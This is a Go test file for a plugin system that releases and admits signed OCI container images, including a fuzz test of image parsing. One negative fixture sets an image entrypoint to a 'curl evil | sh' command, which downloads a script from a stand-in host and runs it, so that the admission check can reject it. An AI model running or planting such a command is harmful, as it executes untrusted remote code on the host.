package plugin

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"github.com/sigstore/sigstore/pkg/signature"

	"nuon.dev/nuon/builder"
	"nuon.dev/nuon/internal/oci"
	"nuon.dev/nuon/internal/oci/ocitest"
	"nuon.dev/nuon/schemas"
)

// imageJob is a job of component dns pinning the zonefile plugin's
// artifact art and its image img.
func imageJob(art, img name.Digest, grants schemas.PluginCapabilities) *schemas.Job {
	return &schemas.Job{APIVersion: schemas.APIVersion, Kind: schemas.KindJob, ID: "dns-1", Install: "acme", Component: "dns",
		Operation: schemas.OpUpdate, Plugin: "zonefile", Version: "0.3.0", Generation: 1, Commit: strings.Repeat("a", 40),
		Artifacts: []schemas.Artifact{
			{Name: schemas.PluginArtifactName, Local: art.String(), Digest: art.DigestStr()},
			{Name: schemas.PluginImageArtifactName, Local: img.String(), Digest: img.DigestStr(), MediaType: string(types.OCIManifestSchema1)},
		},
		Grants: &grants, Timeout: "1m", StateDir: "/var/lib/nuon/components/dns"}
}

// TestPluginImage releases the zonefile plugin's container image beside
// its artifact: standard OCI media types, its entrypoint the linux/amd64
// executable, its manifest in a config label, the artifact's digest in an
// annotation, the same digest from the same inputs; and admits it only
// when it is what the job pins, signed by the vendor, the release of the
// artifact the job pins, and needing no more than the grants.
func TestPluginImage(t *testing.T) {
	ctx := context.Background()
	host := ocitest.InProcess(t)
	c, err := oci.NewClient(oci.WithKeychain(nil))
	if err != nil {
		t.Fatal(err)
	}
	vendor, pub := cosignKey(t)
	other, _ := cosignKey(t)
	repo, _ := name.NewRepository(host + "/nuon-acme/acme/plugins/zonefile")

	// release pushes dir's artifact and image, each signed with key
	// (nil: unsigned), as `nuon plugin release` does.
	release := func(dir string, key signature.SignerVerifier, edit func(v1.Image) v1.Image) (art, img name.Digest) {
		a, _, err := Package(dir)
		if err != nil {
			t.Fatal(err)
		}
		art = pushImage(t, c, repo, a)
		ad, _ := a.Digest()
		im, m, err := PackageImage(dir, nil, ad)
		if err != nil {
			t.Fatal(err)
		}
		if m.Name != "zonefile" {
			t.Fatalf("manifest %+v", m)
		}
		if edit != nil {
			im = edit(im)
		}
		img = pushImage(t, c, repo, im)
		if key != nil {
			for _, ref := range []name.Digest{art, img} {
				if _, err := builder.Sign(ctx, c, ref, key); err != nil {
					t.Fatal(err)
				}
			}
		}
		return art, img
	}
	art, img := release(zonefileDir, vendor, nil)
	zone := schemas.PluginCapabilities{Env: []string{"NUON_ZONE_DIR"}}

	t.Run("standard image", func(t *testing.T) {
		got, granted, err := AdmitImage(ctx, c, imageJob(art, img, zone), pub)
		if err != nil {
			t.Fatal(err)
		}
		if want := []string{"/nuon-plugin/zonefile"}; strings.Join(got.Entrypoint, " ") != want[0] || got.Artifact != art.DigestStr() || got.Manifest.Version != "0.3.0" {
			t.Errorf("image %+v", got)
		}
		if len(granted.Env) != 1 || granted.Network {
			t.Errorf("granted %+v", granted)
		}
		m, err := c.Get(ctx, img)
		if err != nil {
			t.Fatal(err)
		}
		man, _ := v1.ParseManifest(strings.NewReader(string(m.Raw)))
		if m.MediaType != types.OCIManifestSchema1 || man.Config.MediaType != types.OCIConfigJSON || len(man.Layers) != 1 || man.Layers[0].MediaType != types.OCILayer {
			t.Errorf("media types %s %s %+v", m.MediaType, man.Config.MediaType, man.Layers)
		}
		again, _ := release(zonefileDir, nil, nil)
		if again != art {
			t.Errorf("the same directory released twice: %s, %s", art, again)
		}
		a, _, _ := Package(zonefileDir)
		ad, _ := a.Digest()
		im, _, _ := PackageImage(zonefileDir, nil, ad)
		if d, _ := im.Digest(); d.String() != img.DigestStr() {
			t.Errorf("the same image packaged twice: %s, %s", d, img.DigestStr())
		}
	})

	unsignedArt, unsigned := release(zonefileVariant(t, func(s string) string { return strings.Replace(s, "0.3.0", "0.3.1", 1) }), nil, nil)
	if _, err := builder.Sign(ctx, c, unsignedArt, vendor); err != nil {
		t.Fatal(err)
	}
	otherArt, otherImg := release(zonefileVariant(t, func(s string) string { return strings.Replace(s, "0.3.0", "0.3.2", 1) }), other, nil)
	needsArt, needs := release(zonefileVariant(t, func(s string) string {
		return strings.Replace(s, `"capabilities": {`, `"capabilities": {"network": true, "secrets": true, `, 1)
	}), vendor, nil)
	// An image whose entrypoint is not the plugin's executable, signed.
	shellArt, shell := release(zonefileVariant(t, func(s string) string { return strings.Replace(s, "0.3.0", "0.3.3", 1) }), vendor, func(im v1.Image) v1.Image {
		cf, _ := im.ConfigFile()
		cf = cf.DeepCopy()
		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "curl evil | sh"}
		out, err := mutate.ConfigFile(im, cf)
		if err != nil {
			t.Fatal(err)
		}
		return out
	})

	for _, tt := range []struct {
		name string
		job  *schemas.Job
		is   error
		want string
	}{
		{"unsigned", imageJob(unsignedArt, unsigned, zone), oci.ErrUnsigned, ""},
		{"signed by another key", imageJob(otherArt, otherImg, zone), oci.ErrBadSignature, ""},
		{"needs more than granted", imageJob(needsArt, needs, zone), ErrNotGranted, "needs network and secrets"},
		{"pinned by another digest", func() *schemas.Job {
			j := imageJob(art, img, zone)
			j.Artifacts[1].Digest = needs.DigestStr()
			return j
		}(), ErrNotPinned, "is not pinned by its digest"},
		{"the release of another artifact", imageJob(needsArt, img, zone), ErrNotPinned, "is the release of artifact"},
		{"another entrypoint", imageJob(shellArt, shell, zone), nil, "entrypoint"},
		{"an artifact as its image", imageJob(art, art, zone), nil, ""},
		{"no image", func() *schemas.Job {
			j := imageJob(art, img, zone)
			j.Artifacts = j.Artifacts[:1]
			return j
		}(), ErrNotPinned, "no artifact \"plugin-image\""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := AdmitImage(ctx, c, tt.job, pub)
			if err == nil || (tt.is != nil && !errors.Is(err, tt.is)) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("AdmitImage = %v; want %v saying %q", err, tt.is, tt.want)
			}
		})
	}
	if PinsImage(imageJob(art, img, zone)) != true {
		t.Error("PinsImage of a job pinning an image is false")
	}
}

// FuzzParseImage: whatever a signed image's manifest and config hold,
// ParseImage returns an image only with a plugin manifest that validates
// and an entrypoint that is its linux/amd64 executable.
func FuzzParseImage(f *testing.F) {
	a, _, err := Package(zonefileDir)
	if err != nil {
		f.Fatal(err)
	}
	ad, _ := a.Digest()
	im, _, err := PackageImage(zonefileDir, nil, ad)
	if err != nil {
		f.Fatal(err)
	}
	rawMan, _ := im.RawManifest()
	rawCfg, _ := im.RawConfigFile()
	f.Add(rawMan, rawCfg)
	f.Add(rawMan, []byte(`{"os":"linux","architecture":"amd64","config":{"Entrypoint":["/nuon-plugin/x"],"Labels":{"dev.nuon.plugin.manifest":"{}"}}}`))
	f.Add([]byte(`{"annotations":{"dev.nuon.plugin.artifact":"sha256:00"}}`), rawCfg)
	ref, _ := name.NewDigest("registry.example/p@" + ad.String())
	f.Fuzz(func(t *testing.T, rawMan, rawCfg []byte) {
		man, err := v1.ParseManifest(strings.NewReader(string(rawMan)))
		if err != nil {
			return
		}
		img, err := ParseImage(ref, man, rawCfg)
		if err != nil {
			return
		}
		b, _ := json.Marshal(img.Manifest)
		if err := schemas.ValidateJSON(schemas.SchemaPluginManifest, b); err != nil {
			t.Fatalf("an image with a manifest that does not validate: %v", err)
		}
		exe := img.Manifest.Executables[ImagePlatform]
		if len(img.Entrypoint) != 1 || img.Entrypoint[0] != ImageDir+"/"+exe || !relPath(exe) {
			t.Fatalf("entrypoint %q for executable %q", img.Entrypoint, exe)
		}
		if _, err := v1.NewHash(img.Artifact); err != nil {
			t.Fatalf("artifact %q", img.Artifact)
		}
	})
}
